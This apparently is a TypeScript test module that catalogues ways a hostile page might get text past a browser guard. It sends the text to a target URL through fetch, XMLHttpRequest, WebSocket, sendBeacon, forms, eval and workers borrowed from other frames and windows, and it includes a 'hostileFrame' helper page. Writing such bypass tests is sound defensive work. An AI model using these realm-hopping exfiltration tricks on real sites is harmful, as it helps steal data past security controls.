/** Natives of other realms: frames of every kind, and windows. */
// A hostile page does what the linter forbids.
// oxlint-disable no-script-url, no-useless-escape, react/iframe-missing-sandbox
import { type Attempt, type Task, variants } from './attempt.ts';

/** A page that does what it is told: goes elsewhere and back, sends a text, or has a frame of its own send it. */
export const hostileFrame = `<!doctype html><body><script>
onpageshow = () => opener?.postMessage('shown', '*');
onmessage = ({ data: { go, back, text, to, frame } }) => {
  if (go) return void (location.href = go);
  if (back) return history.back();
  if (!frame) return void fetch(to, { method: 'POST', mode: 'no-cors', body: text });
  const inner = document.body.appendChild(document.createElement('iframe'));
  inner.onload = () => inner.contentWindow.postMessage({ text, to }, '*');
  inner.src = frame;
};
</script>`;

export const realms: readonly Attempt[] = [
  {
    name: 'realm: fetch of a fresh about:blank frame',
    reads: 'both',
    run: async ({ text, to }) => (await tools.frame('')).fetch(to, { method: 'POST', body: text }),
  },
  {
    name: 'realm: fetch of a frame that was written as markup',
    reads: 'both',
    run: ({ text, to }) => {
      document.body.innerHTML = '<iframe></iframe>';
      return (frames[0] as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: fetch of a srcdoc frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('', (frame) => {
        frame.srcdoc = '<p>hello</p>';
      });
      return view.fetch(to, { method: 'POST', body: text });
    },
  },
  ...variants(['blob:', 'data:', 'srcdoc', 'sandboxed srcdoc', 'javascript:'], (kind) => ({
    name: `realm: a script of a frame by ${kind}`,
    reads: 'both' as const,
    run: async ({ text, to, variant }) => {
      const script = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`;
      const markup = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
      if (variant === 'blob:') await tools.frame(URL.createObjectURL(new Blob([markup], { type: 'text/html' })));
      if (variant === 'data:') await tools.frame(`data:text/html;charset=utf-8,${encodeURIComponent(markup)}`);
      if (variant === 'javascript:')
        tools.element('iframe', { src: `javascript:${encodeURIComponent(`void ${script}`)}` });
      if (variant.endsWith('srcdoc')) {
        await tools.frame('', (frame) => {
          if (variant.startsWith('sandboxed')) frame.setAttribute('sandbox', 'allow-scripts');
          frame.srcdoc = markup;
        });
      }
      await tools.pause(200);
    },
  })),
  {
    name: 'realm: a frame whose document was opened anew',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      view.document.open();
      view.document.write('<p>hello</p>');
      view.document.close();
      return view.fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: this page’s own document opened anew',
    reads: 'both',
    run: ({ text, to }) => {
      document.open();
      document.write('<body>');
      document.close();
      return fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a frame in a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const outer = await tools.frame('');
      const inner = outer.document.body.appendChild(outer.document.createElement('iframe'));
      return (inner.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a frame in a shadow root',
    reads: 'both',
    run: ({ text, to }) => {
      const root = tools.element('div', {}).attachShadow({ mode: 'closed' });
      const frame = root.appendChild(document.createElement('iframe'));
      return (frame.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a window that was opened',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = window.open('about:blank') as typeof window;
      await view.fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: XMLHttpRequest of a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const request = new view.XMLHttpRequest();
      request.open('POST', to);
      request.send(text);
    },
  },
  {
    name: 'realm: send of a frame’s XMLHttpRequest on one of this page',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const request = new XMLHttpRequest();
      view.XMLHttpRequest.prototype.open.call(request, 'POST', to, true);
      view.XMLHttpRequest.prototype.send.call(request, text);
    },
  },
  ...variants(['page’s', 'frame’s'], (kind) => ({
    name: `realm: a prompt in the address of the ${kind} XMLHttpRequest, opened by the other`,
    reads: 'both' as const,
    run: async ({ text, to, variant }) => {
      const view = await tools.frame('');
      const [mine, other] = variant.startsWith('page') ? [window, view] : [view, window as typeof view];
      const address = `${to}?q=${encodeURIComponent(text)}`;
      // What was refused at first may go on once it was judged.
      for (const wait of [600, 0]) {
        const request = new mine.XMLHttpRequest();
        request.open('GET', `${to}/harmless`);
        other.XMLHttpRequest.prototype.open.call(request, 'GET', address, true);
        request.send();
        await tools.pause(wait);
      }
    },
  })),
  ...variants(['page’s WebSocket', 'frame’s WebSocket'], (kind) => ({
    name: `realm: send of the other realm on the ${kind}`,
    reads: 'page' as const,
    run: async ({ text, to, variant }) => {
      const view = await tools.frame('');
      const [mine, other] = variant.startsWith('page') ? [window, view] : [view, window as typeof view];
      const socket = new mine.WebSocket(to.replace('http', 'ws'));
      await new Promise((resolve) => {
        socket.addEventListener('open', resolve);
      });
      other.WebSocket.prototype.send.call(socket, text);
      await tools.pause(300);
    },
  })),
  ...variants(['page’s navigator', 'frame’s navigator', 'page’s window', 'frame’s window'], (kind) => ({
    name: `realm: sendBeacon or fetch of the other realm on the ${kind}`,
    reads: 'both' as const,
    run: async ({ text, to, variant }) => {
      const view = await tools.frame('');
      const [mine, other] = variant.startsWith('page') ? [window, view] : [view, window as typeof view];
      if (variant.endsWith('navigator')) other.Navigator.prototype.sendBeacon.call(mine.navigator, to, text);
      else void other.fetch.call(mine, new mine.Request(to, { method: 'POST', body: text }));
      await tools.pause(300);
    },
  })),
  ...variants(['submitted by this page', 'moved there from this page'], (kind) => ({
    name: `realm: a form in a fresh frame, ${kind}`,
    reads: 'both' as const,
    run: async ({ text, to, variant }) => {
      const view = await tools.frame('');
      const form = tools.form(to, text);
      if (variant.startsWith('moved')) view.document.body.append(form);
      else {
        view.document.body.innerHTML = `<form method="post" action="${to}"><textarea name="prompt"></textarea></form>`;
        (view.document.querySelector('textarea') as HTMLTextAreaElement).value = text;
      }
      HTMLFormElement.prototype.submit.call(view.document.forms[0]);
      await tools.pause(300);
    },
  })),
  {
    name: 'realm: WebSocket of a frame',
    reads: 'page',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const socket = new view.WebSocket(to.replace('http', 'ws'));
      await new Promise((resolve) => {
        socket.addEventListener('open', resolve);
      });
      socket.send(text);
      await tools.pause(300);
    },
  },
  {
    name: 'realm: sendBeacon of a frame',
    reads: 'both',
    run: async ({ text, to }) => (await tools.frame('')).navigator.sendBeacon(to, text),
  },
  {
    name: 'realm: submit of a frame on a form of this page',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      view.HTMLFormElement.prototype.submit.call(tools.form(to, text));
    },
  },
  {
    name: 'realm: eval in a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const { eval: evaluate } = view as unknown as { eval: (code: string) => unknown };
      return evaluate(`fetch(${JSON.stringify(to)}, { method: 'POST', body: ${JSON.stringify(text)} })`);
    },
  },
  ...variants(['no content', 'a download', 'nothing at all', 'another page, and back'], (kind) => ({
    name: `realm: a frame of another site, after a navigation to ${kind}`,
    reads: 'network' as const,
    run: async ({ text, to, elsewhere, variant }) => {
      const foreign = new URL('/hostile-frame.html', elsewhere).href;
      let view: Window = window;
      if (variant === 'another page, and back') {
        const shown = (): Promise<unknown> =>
          new Promise((resolve) => {
            addEventListener('message', resolve, { once: true });
          });
        // In a window of its own: this one's scripts would end.
        view = window.open('/hostile-frame.html') as Window;
        await shown();
        view.postMessage({ go: foreign }, '*');
        await shown();
        view.postMessage({ back: true }, '*');
        await shown();
        view.postMessage({ text, to: elsewhere, frame: foreign }, '*');
      } else {
        const address = { 'no content': '/no-content', 'a download': '/download', 'nothing at all': '/never' }[variant];
        location.href = new URL(address as string, elsewhere).href;
        await tools.pause(300);
        const frame = await tools.frame(foreign);
        frame.postMessage({ text, to: elsewhere }, '*');
      }
      void to;
      await tools.pause(700);
    },
  })),
  ...[false, true].map((isBehind) => ({
    name: `realm: a sandboxed window’s worker${isBehind ? ', from a tab behind another' : ''}`,
    isBehind,
    isAlone: isBehind,
    reads: 'network' as const,
    run: async ({ text, elsewhere }: Task) => {
      const work = `onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', mode: 'no-cors', body: text })`;
      const script = `const view = open(); view.eval(${JSON.stringify(
        `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(work)})).postMessage(${JSON.stringify({ text, to: elsewhere })})`,
      )})`;
      await tools.frame('', (frame) => {
        frame.setAttribute('sandbox', 'allow-scripts allow-popups allow-popups-to-escape-sandbox');
        frame.srcdoc = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
      });
      await tools.pause(700);
    },
  })),
];
